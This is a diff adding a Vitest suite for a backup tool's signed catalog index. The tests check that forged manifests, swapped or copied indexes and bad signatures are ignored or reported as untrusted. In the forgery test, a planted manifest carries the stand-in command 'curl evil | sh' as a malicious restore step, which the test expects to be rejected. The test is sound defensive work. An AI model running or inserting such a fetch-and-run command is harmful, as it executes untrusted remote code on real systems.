@@ -1,0 +1,176 @@
+import { generateKeyPairSync } from 'node:crypto';
+import { fileURLToPath } from 'node:url';
+import { execa } from 'execa';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { listVerifiedBackups, scanCatalog } from '../activities/catalog';
+import { indexKeys, listSources, readSourceCatalog } from '../activities/catalog-index';
+import { createDeps } from '../activities/deps';
+import { putSigned } from '../activities/signed';
+import { readAll, type StorageBackend } from '../activities/storage/backend';
+import { keys, type Manifest } from '../lib/manifest';
+import { signatureKey, signerFromPem, trustedKeys } from '../lib/signing';
+import { makeFixture, type Fixture } from './support/fixture';
+import { plantManifest, testSigner, trusted } from './support/signing';
+import { plantRecord, verifyRecord } from './support/verify-records';
+
+const servers = inject('servers');
+const lifeboat = fileURLToPath(new URL('../bin/lifeboat', import.meta.url));
+
+const idAt = (day: number) => `202611${String(day).padStart(2, '0')}T010000Z-index${String(day).padStart(7, '0')}`;
+
+async function plant(storage: StorageBackend, source: string, day: number): Promise<void> {
+  const id = idAt(day);
+  const key = keys.object(source, id, 'data.zst.age');
+  await storage.put(key, Buffer.from('data'));
+  await plantManifest(storage, { id, source, kind: 'files', region: 'stockholm', finishedAt: `2026-11-${String(day).padStart(2, '0')}T01:00:05.000Z`, objects: [{ key, role: 'data', content: 'planted', size: 4, sha256: '0'.repeat(64) }] });
+}
+
+/** What a listing says, without the parts that legitimately differ between reads. */
+const view = (catalog: Awaited<ReturnType<typeof listVerifiedBackups>>) => ({
+  entries: catalog.entries.map((entry) => ({ id: entry.manifest.id, sha: entry.manifestSha256, keyId: entry.keyId, records: entry.records.map((r) => r.outcome) })),
+  untrusted: catalog.untrusted,
+});
+
+async function sourceRead(storage: StorageBackend, source: string, options: Parameters<typeof readSourceCatalog>[4] = {}, keysTrusted = trusted) {
+  const listed = await listSources(storage, source);
+  return readSourceCatalog(storage, keysTrusted, source, listed.get(source) ?? [], options);
+}
+
+describe('the signed catalog index makes a listing cheap and never changes what it says', () => {
+  let fixture: Fixture;
+  let storage: StorageBackend;
+
+  beforeAll(async () => {
+    fixture = await makeFixture(servers, () => ({
+      docs: { kind: 'files', region: 'stockholm', path: '/nonexistent' },
+      logs: { kind: 'files', region: 'stockholm', path: '/nonexistent' },
+    }));
+    storage = createDeps(fixture.config).storage('stockholm');
+    for (let day = 1; day <= 12; day++) await plant(storage, 'docs', day);
+    for (let day = 1; day <= 3; day++) await plant(storage, 'logs', day);
+    await plantRecord(storage, verifyRecord({ source: 'docs', backupId: idAt(3), region: 'stockholm', level: 'restore', outcome: 'passed', finishedAt: '2026-11-20T00:00:00.000Z' }));
+  }, 120_000);
+
+  afterAll(() => fixture?.cleanup());
+
+  it('is written by a reader that signs, after which a listing reads no manifest and says the same', async () => {
+    const before = view(await listVerifiedBackups(storage, trusted));
+    expect(before.entries).toHaveLength(15);
+    expect(before.entries.find((e) => e.id === idAt(3))!.records).toEqual(['passed']);
+    const first = await sourceRead(storage, 'docs', { refresh: testSigner });
+    expect(first.index).toBe('absent');
+    expect(first.read).toBe(13);
+    const written = await indexKeys(storage, 'docs');
+    expect(written).toHaveLength(1);
+    expect(await storage.stat(signatureKey(written[0]!))).toBeDefined();
+
+    const again = await sourceRead(storage, 'docs');
+    expect(again.index).toBe('used');
+    expect(again.read).toBe(0);
+    expect(again.entries.map((e) => e.manifest.id)).toEqual(first.entries.map((e) => e.manifest.id));
+    expect(view(await listVerifiedBackups(storage, trusted))).toEqual(before);
+  });
+
+  it('reads a backup written since the index, and drops one deleted since, without a rewrite', async () => {
+    await sourceRead(storage, 'docs', { refresh: testSigner });
+    await plant(storage, 'docs', 20);
+    await storage.remove(keys.manifest('docs', idAt(1)));
+    const read = await sourceRead(storage, 'docs');
+    expect(read.index).toBe('used');
+    expect(read.read).toBe(1);
+    const ids = read.entries.map((e) => e.manifest.id);
+    expect(ids).toContain(idAt(20));
+    expect(ids).not.toContain(idAt(1));
+  });
+
+  it('takes a manifest replaced after indexing for what it is now: a forgery is reported, not vouched for', async () => {
+    await sourceRead(storage, 'docs', { refresh: testSigner });
+    const key = keys.manifest('docs', idAt(5));
+    const original = JSON.parse((await readAll(await storage.get(key))).toString()) as Manifest;
+    // Someone with write access to the bucket and a key of their own rewrites a manifest and its signature.
+    const { privateKey } = generateKeyPairSync('ed25519');
+    const forger = signerFromPem(privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(), 'a foreign key');
+    // Storage is write-once; the forger deletes first, as anyone with the credentials may.
+    await storage.remove(key);
+    await storage.remove(signatureKey(key));
+    await putSigned(storage, key, Buffer.from(JSON.stringify({ ...original, restoreWith: 'curl evil | sh' })), forger);
+    const scan = await scanCatalog(storage, trusted, 'docs');
+    expect(scan.entries.map((e) => e.manifest.id)).not.toContain(idAt(5));
+    expect(scan.untrusted).toEqual([{ key, reason: expect.stringContaining('not by any key in catalog.trustedKeys') as unknown }]);
+    // Put back as it was, so the next tests see a clean catalog.
+    await storage.remove(key);
+    await storage.remove(signatureKey(key));
+    await putSigned(storage, key, Buffer.from(JSON.stringify(original)), testSigner);
+  });
+
+  it('stops vouching for entries signed by a key removed from catalog.trustedKeys', async () => {
+    await sourceRead(storage, 'docs', { refresh: testSigner });
+    // The index is signed by the test key; a config that trusts only another key trusts neither it nor the manifests.
+    const { publicKey } = generateKeyPairSync('ed25519');
+    const other = trustedKeys([publicKey.export({ type: 'spki', format: 'der' }).toString('base64')]);
+    const read = await sourceRead(storage, 'docs', {}, other);
+    expect(read.index).toMatch(/^ignored: /);
+    expect(read.entries).toEqual([]);
+    expect(read.untrustedManifests.length).toBeGreaterThan(10);
+    // Both keys trusted, the index is used: its entries still name the test key, which is trusted.
+    const both = await sourceRead(storage, 'docs', {}, [...trusted, ...other]);
+    expect(both.index).toBe('used');
+    expect(both.read).toBe(0);
+  });
+
+  it('ignores an index copied from another source, another bucket, or with a bad signature, and still lists right', async () => {
+    await sourceRead(storage, 'docs', { refresh: testSigner });
+    await sourceRead(storage, 'logs', { refresh: testSigner });
+    const expected = (await sourceRead(storage, 'logs', { ignoreIndex: true })).entries.map((e) => e.manifest.id);
+    const [docsKey] = await indexKeys(storage, 'docs');
+    const docsIndex = await readAll(await storage.get(docsKey!));
+    const docsSignature = await readAll(await storage.get(signatureKey(docsKey!)));
+    // Planted as a newer generation of the logs index than the real one.
+    const plantedKey = `_catalog/logs/index-29991231T000000000Z-00000000.json`;
+    await storage.put(signatureKey(plantedKey), docsSignature);
+    await storage.put(plantedKey, docsIndex);
+    const swapped = await sourceRead(storage, 'logs', { ignoreIndex: false });
+    // The real one below it is used: the planted one is skipped, not believed.
+    expect(swapped.index).toBe('used');
+    expect(swapped.entries.map((e) => e.manifest.id)).toEqual(expected);
+    for (const key of await indexKeys(storage, 'logs')) if (key !== plantedKey) await storage.remove(key);
+    const alone = await sourceRead(storage, 'logs');
+    expect(alone.index).toBe('ignored: it describes source "docs"');
+    expect(alone.read).toBe(3);
+    expect(alone.entries.map((e) => e.manifest.id)).toEqual(expected);
+
+    const gothenburg = createDeps(fixture.config).storage('gothenburg');
+    await gothenburg.put(signatureKey(docsKey!), docsSignature);
+    await gothenburg.put(docsKey!, docsIndex);
+    const elsewhere = await sourceRead(gothenburg, 'docs');
+    expect(elsewhere.index).toBe(`ignored: it describes ${JSON.stringify(storage.location)}`);
+    expect(elsewhere.entries).toEqual([]);
+
+    const alteredKey = `_catalog/logs/index-29991231T000000001Z-00000000.json`;
+    await storage.put(signatureKey(alteredKey), docsSignature);
+    await storage.put(alteredKey, Buffer.from(docsIndex.toString().replace('"docs"', '"logs"')));
+    const altered = await sourceRead(storage, 'logs');
+    expect(altered.index).toBe('ignored: its signature is not by any key in catalog.trustedKeys (' + trusted[0]!.id + ')');
+    expect(altered.entries.map((e) => e.manifest.id)).toEqual(expected);
+    // A reader that signs replaces them all with one index of its own.
+    await sourceRead(storage, 'logs', { refresh: testSigner });
+    expect(await indexKeys(storage, 'logs')).toHaveLength(1);
+    expect((await sourceRead(storage, 'logs')).index).toBe('used');
+  });
+
+  it('lifeboat catalog rebuild writes every index from the manifests, and backups list says the same after', async () => {
+        const listBefore = await execa(lifeboat, ['--config', fixture.configFile, '--json', 'backups', 'list'], { env: fixture.env, reject: false });
+    expect(listBefore.exitCode, listBefore.stderr).toBe(0);
+    for (const key of await indexKeys(storage, 'docs')) await storage.remove(key);
+    const rebuilt = await execa(lifeboat, ['--config', fixture.configFile, '--json', 'catalog', 'rebuild'], { env: fixture.env, reject: false });
+    expect(rebuilt.exitCode, rebuilt.stderr).toBe(0);
+    const rows = JSON.parse(rebuilt.stdout) as { region: string; source: string; backups: number; records: number; previous: string }[];
+    expect(rows).toContainEqual(expect.objectContaining({ region: 'stockholm', source: 'docs', backups: 12, records: 1, previous: 'absent' }));
+    expect(rows).toContainEqual(expect.objectContaining({ region: 'stockholm', source: 'logs', backups: 3 }));
+    expect(rows).toContainEqual(expect.objectContaining({ region: 'gothenburg', source: 'docs', backups: 0 }));
+    expect((await sourceRead(storage, 'docs')).read).toBe(0);
+    expect((await sourceRead(storage, 'logs')).read).toBe(0);
+    const listAfter = await execa(lifeboat, ['--config', fixture.configFile, '--json', 'backups', 'list'], { env: fixture.env, reject: false });
+    expect(JSON.parse(listAfter.stdout)).toEqual(JSON.parse(listBefore.stdout));
+  }, 120_000);
+});
